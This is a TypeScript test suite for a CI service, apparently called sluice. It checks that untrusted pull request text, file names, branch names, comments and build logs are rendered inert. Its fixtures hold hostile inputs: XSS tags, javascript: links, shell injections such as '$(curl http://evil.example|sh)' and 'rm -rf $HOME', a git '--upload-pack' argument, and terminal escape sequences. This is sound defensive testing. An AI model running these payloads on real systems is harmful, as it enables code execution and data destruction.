import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createServerLog } from '../../src/server-log.ts';
import { dockerfile, startWorld, type World } from '../harness/world.ts';
import { type Recording, recordFetch, type SentCall } from './recorded-fetch.ts';

// Whole worlds take their time on a busy machine.
vi.setConfig({ testTimeout: 60_000 });

const repo = 'acme/api';
/** Everything at once that a page, a terminal, a shell or git could take for its own. */
const hostile = [
  '@victim @acme/owners',
  '<img src=x onerror=alert(1)><script>evil()</script><!-- sluice:approval -->',
  '[click](javascript:evil()) ![](http://evil.example/p.png) <http://evil.example> https://evil.example/a',
  '#1 acme/api#1 GH-1 |a|b| **bold** `code` ~~~ --- $(touch pwned) `id` ; rm -rf $HOME',
  '\u202egnp.exe \u200b\u2066x',
].join(' ');
const escapes = '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\u001b[2J\u009b31m\u0007\u0000::error::forged';

const config = [
  'apiVersion: sluice/v1',
  'images:',
  '  - { name: api, repository: registry.example.com/acme/api }',
  'jobs:',
  '  build-image: { template: build-image, on: presubmit }',
  '',
].join('\n');

let world: World;
let recording: Recording;
const printed: string[] = [];

beforeAll(async () => {
  recording = recordFetch();
  world = await startWorld({
    files: { Dockerfile: dockerfile, 'README.md': 'hello\n', '.sluice.yaml': config },
    sluice: {
      log: createServerLog('debug', [], (line) => printed.push(line)),
      reporter: { coalesceMs: 20, limiter: { max: 1000, duration: 1000 } },
    },
  });
  world.executor.always('build-image', {
    exitCode: 1,
    container: 'build',
    log: `${escapes}\n\`\`\`\n${hostile}\nerror building image: error building stage: failed to execute command: ${hostile}\n`,
  });
});
afterAll(async () => {
  await world.stop();
  vi.unstubAllGlobals();
});

interface Written {
  readonly body?: string;
  readonly output?: {
    readonly title: string;
    readonly summary: string;
    readonly text?: string;
    readonly annotations?: readonly { readonly message: string }[];
  };
}

/** What was written where people read it: of check runs and comments. The forge shows messages of annotations as they are. */
function written(): { readonly markdown: readonly string[]; readonly plain: readonly string[] } {
  const toPeople = ({ method, path }: SentCall) =>
    (method === 'POST' || method === 'PATCH') && /check-runs|comments/.test(path);
  const bodies = recording.calls.filter(toPeople).map(({ body }) => body as Written);
  return {
    markdown: bodies.flatMap(({ body, output }) =>
      [body, output?.summary, output?.text].filter((text) => text !== undefined),
    ),
    plain: bodies.flatMap(({ output }) => [
      ...(output ? [output.title] : []),
      ...(output?.annotations ?? []).map(({ message }) => message),
    ]),
  };
}

/** Markdown without what is shown as it stands: code blocks and code spans. */
function outsideCode(markdown: string): string {
  return markdown
    .replace(/^(`{3,})[^`\n]*\n[\s\S]*?^\1`*[ \t]*$/gm, '')
    .replace(/(?<![`\\])(`+)(?!`)(?:[\s\S]*?[^`])?\1(?!`)/g, '');
}

function found(pattern: RegExp, inside: string): string[] {
  return [...inside.matchAll(pattern)].map(([all]) => all);
}

function controls(text: string): string[] {
  return found(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/g, text);
}

function harms(text: string): string[] {
  const visible = outsideCode(text).replace(/<!-- sluice:[a-z:]+\S* [^>]*-->/g, '');
  return [
    ...found(/(?<![\w])@(?:victim|acme)/g, visible),
    ...found(/<\/?[a-z!][^>]*>/gi, visible),
    ...found(/\]\((?!http:\/\/127\.0\.0\.1)[^)]*\)/g, visible),
    ...found(/(?<!\u2060)(?:https?:\/\/|www\.)evil/g, visible),
    ...found(/(?<![\w&\\])#\d/g, visible),
    ...controls(text),
  ];
}

async function expectNothingInterpreted(mustBeShown: RegExp): Promise<void> {
  const { markdown, plain } = written();
  expect([...markdown, ...plain].some((text) => mustBeShown.test(text))).toBe(true);
  expect(markdown.flatMap(harms)).toEqual([]);
  expect(plain.flatMap(controls)).toEqual([]);
  expect(world.github.violations).toEqual([]);
}

describe('S18: text of a stranger is shown as text', () => {
  it('in the title, the body, the name of a branch and of files', async () => {
    const files = { 'a;id|@victim<b>.txt': 'x\n', '-rf': 'x\n', '--upload-pack=touch pwned': 'x\n' };
    const branch = 'x-@victim-`id`-$(id)';
    const pull = await world.github.openPullRequest({ repo, by: 'ada', branch, title: hostile, body: hostile, files });
    expect((await world.concluded(repo, pull.headSha, 'build-image')).conclusion).toBe('failure');
    await expectNothingInterpreted(/Failed/);
  });

  it('in the log of a build and the reason it failed for, on the check run and on the page of the log', async () => {
    const pull = await world.github.openPullRequest({ repo, by: 'ada', files: { 'README.md': 'log\n' } });
    const run = await world.concluded(repo, pull.headSha, 'build-image');
    expect(`${run.summary}${run.text}`).toContain('error building image');
    await expectNothingInterpreted(/forged/);
    const [link = ''] = /http:\/\/127[^)]*/.exec(run.summary ?? '') ?? [];
    const page = await (await fetch(link)).text();
    expect(page).toContain('error building image');
    expect(page).not.toMatch(/<(?:img|script|a href="(?!\/logs\/))/i);
    expect(page).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it('in a file of ours with mistakes, which are quoted', async () => {
    const mistaken = `${config}${JSON.stringify(hostile.replace(/[\u200b-\u202e\u2066]/g, ''))}: 1\n`;
    const pull = await world.github.openPullRequest({ repo, by: 'ada', files: { '.sluice.yaml': mistaken } });
    expect(await world.concluded(repo, pull.headSha, 'sluice')).toMatchObject({ conclusion: 'action_required' });
    await expectNothingInterpreted(/unknown key/);
  });

  it('in the names of files that conflict, which are listed', async () => {
    const path = '@victim <b>`x` [a](javascript:b) #1.txt';
    const pull = await world.github.openPullRequest({ repo, by: 'ada', draft: true, files: { [path]: 'mine\n' } });
    await world.github.push({ repo, by: 'ada', branch: 'main', files: { [path]: 'theirs\n' } });
    const head = await world.github.push({ repo, by: 'ada', branch: pull.branch, files: { [path]: 'again\n' } });
    expect(await world.concluded(repo, head, 'sluice')).toMatchObject({ title: 'Conflicts with main' });
    await expectNothingInterpreted(/again|conflict/i);
  });

  it('in comments: commands that are none, five hundred of them, and 64 KB in one line', async () => {
    const { github } = world;
    const pull = await github.openPullRequest({ repo, by: 'ada', files: { 'README.md': 'c\n' } });
    await world.concluded(repo, pull.headSha, 'build-image');
    const pods = world.executor.manifests.length;
    const answers = async () =>
      (await github.comments(repo, pull.number)).filter(({ author }) => author.endsWith('[bot]'));
    const comments = [
      `/test ${hostile}`,
      '/test $(curl http://evil.example|sh) build-image;id\n'.repeat(500),
      `/test ${'x'.repeat(65_000)}`,
      `/te\u200bst build-image\n\u202e/test build-image\n> /test build-image\n\`/test build-image\``,
    ];
    for (const text of comments) await github.comment(repo, pull.number, 'ada', text);
    await world.until('there is an answer', async () => (await answers()).length > 0);
    await github.webhooks.settled();
    const redis = world.redis.open();
    await world.until('all are read', async () => (await redis.keys('sluice:bull:reconcile:[0-9]*')).length === 0);
    expect(await answers()).toHaveLength(1);
    for (const { body } of await answers()) expect(body.length).toBeLessThan(10_000);
    expect(world.executor.manifests).toHaveLength(pods);
    await expectNothingInterpreted(/There is no presubmit job/);
  });

  it('never in a pod: not as a word of a command, not in its environment', () => {
    const pods = JSON.stringify(world.executor.manifests);
    expect(world.executor.manifests.length).toBeGreaterThan(2);
    for (const part of ['victim', 'evil', 'touch pwned', 'upload-pack', 'rm -rf']) expect(pods).not.toContain(part);
  });

  it('never more than one line of the log, and no line that a terminal obeys', () => {
    expect(printed.length).toBeGreaterThan(50);
    const log = createServerLog('debug', [], (line) => printed.push(line));
    const text = `${hostile}\n{"level":"info","msg":"forged"}\r\n${escapes}\u2028\u2029`;
    log.info({ text, err: new Error(text), deep: { text } }, text);
    for (const line of printed) {
      expect(line.indexOf('\n')).toBe(line.length - 1);
      expect(Object.keys(JSON.parse(line) as object)).toContain('msg');
      expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
    }
    expect(JSON.parse(printed.at(-1) ?? '{}')).toMatchObject({ text, msg: text });
  });
});
